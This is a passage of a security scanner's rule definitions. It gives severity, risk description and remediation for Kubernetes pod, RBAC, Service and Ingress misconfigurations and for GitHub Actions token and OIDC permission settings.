  deferred("kubernetes-pod", { "id": "k8s-run-as-non-root-not-set", "title": "Container may run as root (runAsNonRoot not true, no non-root runAsUser)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "Neither the container nor its pod sets `runAsNonRoot: true` or a non-zero `runAsUser`, so the container runs as whatever user its image names, which for most images is root. The Pod Security Standards restricted profile requires `runAsNonRoot: true`, so that the kubelet refuses to start a container as root.", "remediation": "Set `securityContext.runAsNonRoot: true` at the pod level (containers inherit it), together with a non-zero `runAsUser` if the image does not name a numeric non-root user.", "precision": "high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.7"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "root", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"] }),
  deferred("kubernetes-pod", { "id": "k8s-run-as-root-group", "title": "Container runs with the root group (runAsGroup: 0)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`runAsGroup: 0` gives the container's processes the root group: they can read and write every file of the image and of mounted volumes that is group-owned by root, which often includes files meant only for root.", "remediation": "Set `runAsGroup` to a non-zero GID, and use `fsGroup` with a non-zero GID for volume access.", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"] }, "tags": ["pod-security", "root", "workload-privilege"], "references": ["https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"] }),
  deferred("kubernetes-pod", { "id": "k8s-run-as-root-user", "title": "Container runs as root (runAsUser: 0)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`runAsUser: 0` runs the container's processes as root. Root in a container owns every file of the image and of its volumes, and is one kernel bug or misconfiguration (a writable hostPath, an added capability) away from root on the node. The Pod Security Standards restricted profile forbids user 0.", "remediation": "Set `runAsUser` to a non-zero UID that the image is built for (and `runAsNonRoot: true`); fix file ownership in the image rather than running as root.", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.7"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "root", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"] }),
  deferred("kubernetes-pod", { "id": "k8s-seccomp-profile-missing", "title": "Container has no seccomp profile (seccompProfile not set)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "Neither the container nor its pod sets a seccomp profile, so on most clusters it runs without system call filtering (the kubelet applies `RuntimeDefault` only when `--seccomp-default` is on). The Pod Security Standards restricted profile requires `RuntimeDefault` or `Localhost`.", "remediation": "Add `securityContext.seccompProfile.type: RuntimeDefault` to the pod spec; every container inherits it.", "precision": "high", "cwe": ["CWE-693"], "frameworks": { "CIS Kubernetes 1.9": ["5.7.2"], "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"], "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "seccomp", "workload-privilege"], "references": ["https://kubernetes.io/docs/tutorials/security/seccomp/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-seccomp-unconfined", "title": "Seccomp profile set to Unconfined", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "A seccomp profile of type `Unconfined` turns off system call filtering: the container can call `unshare`, `keyctl`, `bpf`, `ptrace` and other calls that most kernel privilege-escalation exploits depend on. The Pod Security Standards baseline profile forbids `Unconfined`.", "remediation": "Use `seccompProfile: { type: RuntimeDefault }` at the pod level, or a `Localhost` profile tailored to the workload.", "precision": "very-high", "cwe": ["CWE-693"], "frameworks": { "CIS Kubernetes 1.9": ["5.7.2"], "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "seccomp", "workload-privilege"], "references": ["https://kubernetes.io/docs/tutorials/security/seccomp/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-secret", { "id": "k8s-secret-in-manifest", "title": "Secret values committed in a manifest (hardcoded secret in Secret data)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Secret"], "description": "The Secret carries its values in `data` or `stringData` in the manifest. Base64 is an encoding, not encryption: whoever can read the repository or a rendered copy of the manifest has the credentials, and they stay in version-control history after rotation.", "remediation": "Keep secret values out of manifests: create Secrets from an external secret store (External Secrets Operator, Secrets Store CSI driver), or commit them encrypted (Sealed Secrets, SOPS). Rotate credentials that were committed.", "precision": "high", "cwe": ["CWE-798", "CWE-312"], "frameworks": { "CIS Kubernetes 1.9": ["5.4.2"], "NSA-CISA Kubernetes Hardening": ["Secrets: keep credentials out of pod specs"] }, "tags": ["secrets", "hardcoded-secret"], "references": ["https://kubernetes.io/docs/concepts/security/secrets-good-practices/", "https://kubernetes.io/docs/concepts/configuration/secret/"] }),
  deferred("kubernetes-pod", { "id": "k8s-selinux-custom-options", "title": "Custom SELinux type, user or role (seLinuxOptions)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The pod or container sets an SELinux type outside the container types (`container_t`, `container_init_t`, `container_kvm_t`, `container_engine_t`), or a custom SELinux user or role. A type such as `spc_t` or `unconfined_t` lifts the SELinux confinement that keeps containers away from host files. The Pod Security Standards baseline profile forbids it.", "remediation": "Remove `seLinuxOptions.type`, `user` and `role`, keeping only `level` when the workload needs a specific MCS label.", "precision": "very-high", "cwe": ["CWE-693"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "selinux", "workload-privilege"], "references": ["https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#assign-selinux-labels-to-a-container", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-account-assumes-admin-aws-role", "title": "Service account is mapped to an AWS administrator role (IRSA)", "severity": "high", "category": "iam", "platforms": ["kubernetes", "terraform"], "resourceTypes": ["ServiceAccount"], "description": "The ServiceAccount's `eks.amazonaws.com/role-arn` annotation names an IAM role in the scan that is an administrator of the AWS account (AdministratorAccess, IAMFullAccess, or a policy allowing `*` or `iam:*` on every resource). Every pod running as the account, and anyone who can create a pod with it in the namespace, receives administrator credentials for the AWS account.", "remediation": "Give the role only the actions and resources the workload uses (one bucket, one queue), and restrict its trust policy to this service account with a `StringEquals` condition on the cluster OIDC provider's `:sub` (`system:serviceaccount:<namespace>:<name>`).", "precision": "high", "cwe": ["CWE-250", "CWE-269"], "tags": ["irsa", "eks", "iam", "iam-wildcard", "service-account"], "references": ["https://docs.aws.amazon.com/eks/latest/userguide/iam-roles-for-service-accounts.html"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-service-account-bound-to-cluster-admin", "title": "Binding grants cluster-admin or a wildcard role to service accounts", "severity": "high", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ClusterRoleBinding", "RoleBinding"], "description": "A RoleBinding or ClusterRoleBinding gives a ServiceAccount (or every ServiceAccount, through the `system:serviceaccounts` groups) the built-in `cluster-admin` role or a role granting every verb on every resource. Any pod running as that account, and anyone who can create a pod in its namespace or read its token, can then do anything in the cluster (or the namespace): read every Secret, run privileged pods, and grant itself more.", "remediation": "Bind the account to a role listing only the API groups, resources and verbs it uses. Controllers that need wide access should still get a dedicated ClusterRole without `*`, and no workload should run as an account bound to `cluster-admin`.", "precision": "very-high", "cwe": ["CWE-269"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.1"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["rbac", "k8s-rbac", "cluster-admin", "service-account"], "references": ["https://kubernetes.io/docs/concepts/security/rbac-good-practices/#least-privilege"] }),
  deferred("kubernetes-pod", { "id": "k8s-service-account-token-automount", "title": "Service account API token mounted by default (automountServiceAccountToken not disabled)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "Neither the pod nor its ServiceAccount sets `automountServiceAccountToken`, so every container gets an API token for the account. Most applications never call the Kubernetes API; for them the token only helps an attacker who gets code execution to move on to the cluster with the account's permissions.", "remediation": "Set `automountServiceAccountToken: false` on the ServiceAccount (or the pod), and set it to `true` explicitly only on pods that call the API.", "precision": "medium", "cwe": ["CWE-200"], "frameworks": { "CIS Kubernetes 1.9": ["5.1.6"], "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] }, "tags": ["service-account", "k8s-rbac"], "references": ["https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-account-token-secret", "title": "Long-lived service account token Secret", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Secret"], "description": "A Secret of type `kubernetes.io/service-account-token` makes the cluster issue a service account token that never expires and is not bound to a pod. Anyone who reads the Secret once can act as the service account until the Secret is deleted.", "remediation": "Use short-lived tokens instead: the projected token pods get automatically, or `kubectl create token` / the TokenRequest API for external clients.", "precision": "very-high", "cwe": ["CWE-613"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Authentication: short-lived service account tokens"] }, "tags": ["service-account", "k8s-rbac"], "references": ["https://kubernetes.io/docs/concepts/security/service-accounts/", "https://kubernetes.io/docs/concepts/configuration/secret/#serviceaccount-token-secrets"] }),
  deferred("kubernetes-pod", { "id": "k8s-share-process-namespace", "title": "Pod containers share one process namespace (shareProcessNamespace)", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`shareProcessNamespace: true` lets every container of the pod see and signal the others' processes and read their environment and files through `/proc/<pid>/root`: a compromised sidecar reaches the main container's secrets, and the reverse.", "remediation": "Remove `shareProcessNamespace` unless a debugging or process-supervision sidecar requires it; use ephemeral debug containers instead.", "precision": "very-high", "cwe": ["CWE-668"], "tags": ["pod-security", "workload-privilege"], "references": ["https://kubernetes.io/docs/tasks/configure-pod-container/share-process-namespace/"] }),
  deferred("kubernetes-pod", { "id": "k8s-unsafe-sysctls", "title": "Pod sets unsafe sysctls", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The pod sets kernel parameters outside the safe, namespaced set. Unsafe sysctls can affect every pod on the node (memory and network tuning, `kernel.*` settings) or weaken isolation, and the kubelet only accepts them when an administrator allows them. The Pod Security Standards baseline profile allows only the safe set.", "remediation": "Remove the sysctl, or move the tuning to the node configuration where it is reviewed once for every pod on the node.", "precision": "very-high", "cwe": ["CWE-668"], "frameworks": { "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "sysctls", "workload-privilege"], "references": ["https://kubernetes.io/docs/tasks/administer-cluster/sysctl-cluster/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-windows-host-process", "title": "Windows HostProcess container runs directly on the node", "severity": "critical", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`windowsOptions.hostProcess: true` runs the container as a process on the Windows node, with the node's network and filesystem and, typically, a SYSTEM or administrator account: it is full control of the node. The Pod Security Standards baseline profile forbids HostProcess pods.", "remediation": "Remove `hostProcess: true`; keep node-management HostProcess DaemonSets in a dedicated, admin-only namespace exempted by policy.", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.11"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "windows", "workload-privilege"], "references": ["https://kubernetes.io/docs/tasks/configure-pod-container/create-hostprocess-pod/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-ingress-ssl-redirect-disabled", "title": "Ingress serves plain HTTP beside TLS (ssl-redirect disabled)", "severity": "medium", "category": "encryption", "platforms": ["kubernetes"], "resourceTypes": ["Ingress"], "description": 'The Ingress has TLS but its `ssl-redirect` annotation is `"false"`, so the controller also answers on plain HTTP instead of redirecting to HTTPS: links, bookmarks and downgrade attacks keep credentials and session cookies travelling unencrypted.', "remediation": "Remove the annotation (the controller redirects to HTTPS by default when TLS is configured) and send an HSTS header.", "precision": "very-high", "cwe": ["CWE-319"], "tags": ["ingress", "encryption-in-transit", "tls"], "references": ["https://kubernetes.github.io/ingress-nginx/user-guide/nginx-configuration/annotations/#server-side-https-enforcement-through-redirect", "https://kubernetes.io/docs/concepts/services-networking/ingress/#tls"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-ingress-without-tls", "title": "Ingress serves plain HTTP", "severity": "medium", "category": "encryption", "platforms": ["kubernetes"], "resourceTypes": ["Ingress"], "description": "The Ingress has no `spec.tls` section, so its hosts are served over unencrypted HTTP: credentials and session cookies cross the network in clear text and can be altered in transit.", "remediation": "Add a `spec.tls` entry for every host with a certificate Secret (for example issued by cert-manager), and redirect HTTP to HTTPS in the ingress controller.", "precision": "high", "cwe": ["CWE-319"], "tags": ["ingress", "encryption-in-transit"], "references": ["https://kubernetes.io/docs/concepts/services-networking/ingress/#tls"] }),
  deferred("kubernetes-pod", { "id": "k8s-host-network", "title": "Pod shares the host's network namespace", "severity": "high", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`hostNetwork: true` puts the pod on the node's network stack: it can bind node ports, reach services listening on the node's loopback (the kubelet, cloud metadata proxies) and sniff traffic, and NetworkPolicies no longer apply to it. The Pod Security Standards baseline profile forbids it.", "remediation": "Remove `hostNetwork: true`; expose the pod through a Service, or use a hostPort-free design such as a NodePort or LoadBalancer Service.", "precision": "very-high", "cwe": ["CWE-668"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.5"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "host-namespaces"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-host-port", "title": "Container binds a port on the node (hostPort)", "severity": "medium", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "A `hostPort` opens the port on the node's own address and forwards it to the container: the workload is reachable by anything that can reach the node, outside Services and often outside NetworkPolicies, and the port can shadow a node service. The Pod Security Standards baseline profile forbids host ports.", "remediation": "Remove `hostPort` and expose the container through a Service (ClusterIP behind an Ingress, or LoadBalancer when it must be public).", "precision": "very-high", "cwe": ["CWE-668"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.13"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "network-exposure", "host-port"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/concepts/configuration/overview/#services"] }),
  deferred("kubernetes-namespace", { "id": "k8s-namespace-without-network-policy", "title": "Namespace has no NetworkPolicy: pods accept traffic from anywhere in the cluster", "severity": "low", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Namespace"], "description": "No NetworkPolicy in the scan applies to this namespace, so its pods accept connections from every pod of the cluster and can connect anywhere: one compromised workload elsewhere reaches its databases and internal APIs directly. The check only considers policies present in the scanned files.", "remediation": "Add a default-deny NetworkPolicy to the namespace (`podSelector: {}` with `policyTypes: [Ingress, Egress]`) and allow the flows each workload needs.", "precision": "medium", "cwe": ["CWE-923"], "frameworks": { "CIS Kubernetes 1.9": ["5.3.2"], "NSA-CISA Kubernetes Hardening": ["Network separation: network policies"] }, "tags": ["network-policy", "network-exposure"], "references": ["https://kubernetes.io/docs/concepts/services-networking/network-policies/#default-policies"] }),
  deferred("kubernetes-namespace", { "id": "k8s-network-policy-selects-no-pods", "title": "NetworkPolicy selects no pods of its namespace", "severity": "low", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["NetworkPolicy"], "description": "The policy's `podSelector` matches none of the workloads the scan holds in its namespace, so it isolates nothing: a typo in a label, or labels renamed in the Deployment but not in the policy, leaves the pods it was written for open to every other pod. Only namespaces with workloads in the scan are checked.", "remediation": "Make `spec.podSelector` match the labels of the pod template it protects (`kubectl get pods -l <selector>` should list them), or delete the stale policy.", "precision": "medium", "cwe": ["CWE-1188"], "tags": ["network-policy", "selector"], "references": ["https://kubernetes.io/docs/concepts/services-networking/network-policies/"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-exposes-privileged-pods", "title": "LoadBalancer, NodePort or Ingress exposes privileged pods", "severity": "high", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Service", "Ingress"], "description": "A Service of type LoadBalancer or NodePort, or an Ingress, routes traffic from outside the cluster to pods with a privileged container (or one adding `SYS_ADMIN` or `ALL` capabilities). A remote code execution in that exposed process is then a takeover of the node and of every pod on it, reachable from the internet.", "remediation": "Remove `privileged: true` and the added capabilities from the exposed containers; if node-level access is truly needed, split it into a separate, unexposed workload. Keep internet-facing Services on pods that run unprivileged, as non-root, with a read-only root filesystem.", "precision": "high", "cwe": ["CWE-250", "CWE-668"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers", "Network separation and hardening"] }, "tags": ["service", "ingress", "network-exposure", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/concepts/services-networking/service/#publishing-services-service-types"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-external-ips", "title": "Service sets externalIPs", "severity": "medium", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Service"], "description": "`spec.externalIPs` makes every node accept traffic for those addresses and send it to the Service. Nothing checks that the addresses belong to the Service's owner: a Service can claim the address of another service or an external host and intercept the cluster's traffic to it (CVE-2020-8554). Many clusters block the field with an admission policy.", "remediation": "Remove `externalIPs`; use a LoadBalancer Service, or assign addresses through a load-balancer implementation (MetalLB, a cloud controller) that owns them.", "precision": "very-high", "cwe": ["CWE-668", "CWE-300"], "tags": ["network-exposure", "service", "external-ip"], "references": ["https://kubernetes.io/docs/concepts/services-networking/service/#external-ips"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-load-balancer", "title": "Service exposed to the internet through a public LoadBalancer", "severity": "low", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Service"], "description": "A Service of type `LoadBalancer` without an internal-load-balancer annotation or `loadBalancerSourceRanges` gets a public address from the cloud provider: its ports are open to the whole internet. That is right for a public ingress controller and a mistake for anything else.", "remediation": "Make the load balancer internal with your provider's annotation, restrict `loadBalancerSourceRanges` to the networks that need it, or expose HTTP services through an Ingress instead.", "precision": "medium", "cwe": ["CWE-668"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Network separation: limit exposure of services"] }, "tags": ["network-exposure", "service"], "references": ["https://kubernetes.io/docs/concepts/services-networking/service/#loadbalancer", "https://kubernetes.io/docs/tasks/access-application-cluster/create-external-load-balancer/"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-node-port", "title": "Service exposed on every node through a NodePort", "severity": "low", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Service"], "description": "A Service of type `NodePort` opens its port on every node's address. Whoever can reach any node (from the node network, or the internet when nodes have public addresses) reaches the service directly, around the Ingress controller's TLS and authentication.", "remediation": "Use a ClusterIP Service behind an Ingress, or an internal LoadBalancer; when a NodePort is unavoidable, firewall the node port range to the load balancer's addresses.", "precision": "high", "cwe": ["CWE-668"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Network separation: limit exposure of services"] }, "tags": ["network-exposure", "service", "node-port"], "references": ["https://kubernetes.io/docs/concepts/services-networking/service/#type-nodeport"] }),
  deferred("kubernetes-secret", { "id": "k8s-service-selects-no-pods", "title": "Service selector matches no pods of its namespace", "severity": "low", "category": "networking", "platforms": ["kubernetes"], "resourceTypes": ["Service"], "description": "The Service's `spec.selector` matches none of the workloads the scan holds in its namespace. The Service has no endpoints, and any pod that later carries the selected labels (created by anyone allowed to create pods in the namespace) receives the traffic meant for it, credentials included. Only namespaces with workloads in the scan are checked.", "remediation": "Fix the selector to match the pod template's labels, or delete the Service. Services backed by hand-managed endpoints should have no selector at all.", "precision": "medium", "cwe": ["CWE-1188"], "tags": ["service", "selector"], "references": ["https://kubernetes.io/docs/concepts/services-networking/service/#services-without-selectors"] }),
  deferred("kubernetes-pod", { "id": "k8s-git-repo-volume", "title": "Pod uses the deprecated gitRepo volume", "severity": "medium", "category": "supply-chain", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "A `gitRepo` volume makes the kubelet run `git clone` on the node, as root, when the pod starts. The volume type is deprecated, the code it fetches is not pinned or verified unless a revision is given, and a crafted repository can run commands on the node through git hooks (CVE-2024-10220).", "remediation": "Clone the repository in an init container into an `emptyDir` volume, at a pinned commit, or bake the content into the image.", "precision": "very-high", "cwe": ["CWE-494", "CWE-829"], "frameworks": { "Pod Security Standards": ["restricted"] }, "tags": ["volumes", "deprecated", "remote-code"], "references": ["https://kubernetes.io/docs/concepts/storage/volumes/#gitrepo"] }),
  deferred("kubernetes-pod", { "id": "k8s-image-mutable-tag", "title": "Container image is untagged or uses :latest", "severity": "medium", "category": "supply-chain", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "An image without a tag, or tagged `latest`, names whatever was pushed last: each node may run a different build, a rollback does not roll back, and a compromised registry push reaches production on the next restart.", "remediation": "Pin the image to a version tag and, better, to its digest (`image: app:1.4.2@sha256:…`).", "precision": "very-high", "cwe": ["CWE-1357"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Use immutable container images"] }, "tags": ["images", "unpinned-dependency"], "references": ["https://kubernetes.io/docs/concepts/containers/images/#image-names"] }),
  deferred("kubernetes-pod", { "id": "k8s-image-without-digest", "title": "Container image not pinned by digest", "severity": "low", "category": "supply-chain", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The image is referenced by a version tag only. Tags can be moved: whoever can push to the repository (or compromise it) can replace the image behind the tag, and nodes pull the new content on the next restart. A digest names exactly one image. Untagged and `latest` images are reported by k8s-image-mutable-tag.", "remediation": "Reference the image by digest, keeping the tag for readers: `image: app:1.4.2@sha256:…`; let a dependency bot update both.", "precision": "very-high", "cwe": ["CWE-1357", "CWE-494"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Use immutable container images"] }, "tags": ["images", "unpinned-dependency"], "references": ["https://kubernetes.io/docs/concepts/containers/images/#image-names"] }),
  deferred("github-actions", { "id": "gha-checkout-persist-credentials", "title": "actions/checkout leaves the token in the git configuration", "severity": "low", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["step"], "description": "By default `actions/checkout` persists the GITHUB_TOKEN (or the SSH key given to it) in the repository's git configuration so that later steps can push. Every later step, and any artifact that uploads the workspace, can then read it, even steps that never needed to write.", "remediation": "Set `persist-credentials: false` on the checkout, and pass the token explicitly only to the step that pushes.", "precision": "medium", "cwe": ["CWE-522"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions"] }, "tags": ["actions", "checkout", "ci-insecure-setting"], "references": ["https://github.com/actions/checkout#usage"] }),
  deferred("github-actions", { "id": "gha-hardcoded-credential", "title": "Credential written in the workflow", "severity": "high", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job", "step"], "description": "A password, token or key written as a literal in a workflow is readable by everyone who can read the repository, stays in its history after it is removed, and appears in forks. Anyone who finds it can use it until it is rotated.", "remediation": "Revoke and rotate the credential, store the new one as an encrypted secret (or better, use OIDC federation) and reference it: `${{ secrets.NAME }}`.", "precision": "medium", "cwe": ["CWE-798"], "tags": ["actions", "secrets", "hardcoded-secret"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"] }),
  deferred("github-actions", { "id": "gha-oidc-token-on-pull-request-target", "title": "Workflow run by pull_request_target, issue_comment or workflow_run can mint cloud OIDC tokens", "severity": "medium", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job"], "description": "`id-token: write` lets a job request OIDC tokens that cloud providers exchange for credentials. Under `pull_request_target`, `issue_comment` or `workflow_run` the job runs in the base repository's trusted context for events anyone can cause (a fork's pull request, a comment), and its token's subject is that of the default branch, which deployment roles usually trust. One step that runs an injected expression or a compromised action then obtains the main branch's cloud credentials. (Jobs that also check out the pull request's code are reported by `gha-untrusted-checkout-id-token`.)", "remediation": "Do not grant `id-token: write` in workflows triggered by untrusted events. Move the cloud work to a workflow on `push` to a protected branch, or to a job behind an environment with required reviewers.", "precision": "medium", "cwe": ["CWE-269"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions", "Dangerous-Workflow"] }, "tags": ["actions", "oidc", "permissions", "ci-token-permissions"], "references": ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect#adding-permissions-settings"] }),
  deferred("github-actions", { "id": "gha-permissions-missing", "title": "Workflow does not set GITHUB_TOKEN permissions", "severity": "low", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow"], "description": "Without a `permissions:` block at the workflow level or on a job, that job's GITHUB_TOKEN gets the repository's or organisation's default permissions, which are read and write on every scope in repositories created before 2023 and in many organisations. A compromised step then holds more than the job needs, and nothing in the file says what it needs.", "remediation": "Add `permissions: {}` or `permissions: contents: read` at the top of the workflow and grant each job the scopes it uses (`pull-requests: write`, `packages: write`…).", "precision": "high", "cwe": ["CWE-272"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions"] }, "tags": ["actions", "permissions", "ci-token-permissions"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"] }),
  deferred("github-actions", { "id": "gha-permissions-read-all", "title": "Workflow or job grants the token read access to everything", "severity": "low", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job"], "description": "`permissions: read-all` lets the GITHUB_TOKEN read every scope: private repository contents, security alerts, deployments, packages, actions logs. Read access is still disclosure: a compromised step in a private repository can copy the code and its vulnerability reports.", "remediation": "List the scopes the job reads, usually just `contents: read`, or use `permissions: {}` when it needs none.", "precision": "very-high", "cwe": ["CWE-272"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions"] }, "tags": ["actions", "permissions", "ci-token-permissions"], "references": ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions"] }),
  deferred("github-actions", { "id": "gha-permissions-write-all", "title": "Workflow or job grants the token write access to everything", "severity": "high", "category": "iam", "platforms": ["github-actions"], "resourceTypes": ["workflow", "job"], "description": "`permissions: write-all` gives the job's GITHUB_TOKEN write access to contents, packages, pull requests, deployments, security events and more. Any step that is compromised (an action, a dependency, an injected script) can then push code, publish packages or approve its own changes.", "remediation": "Set `permissions: {}` at the workflow level (or `contents: read`) and grant each job only the scopes it uses, e.g. `issues: write` for a labelling job.", "precision": "very-high", "cwe": ["CWE-272"], "frameworks": { "OpenSSF Scorecard": ["Token-Permissions"] }, "tags": ["actions", "permissions", "ci-token-permissions"], "references": ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"] }),
  deferred("github-actions", { "id": "gha-pull-request-workflow-assumes-admin-role", "title": "Workflow triggered by pull requests or comments assumes an AWS administrator role any branch can assume", "severity": "high", "category": "iam", "platforms": ["github-actions", "terraform"], "resourceTypes": ["step"], "description": "A workflow that runs on `pull_request`, `pull_request_target`, `issue_comment` or `workflow_run` assumes, through `aws-actions/configure-aws-credentials`, an IAM role that is an administrator of the AWS account and whose trust policy accepts the OIDC token of any branch or pull request (a `sub` of `repo:org/repo:*`, `repo:org/*`, or none). Whoever can open a pull request or push a branch, or get code to run in such a workflow (a checkout of the pull request's head, an injected title), becomes an administrator of the account.", "remediation": "Assume a read-only role in pull-request workflows. Keep the administrator (or deploying) role for workflows on protected branches or environments, and restrict its trust policy's `token.actions.githubusercontent.com:sub` to `repo:org/repo:ref:refs/heads/main` or `repo:org/repo:environment:production`.", "precision": "high", "cwe": ["CWE-269", "CWE-863"], 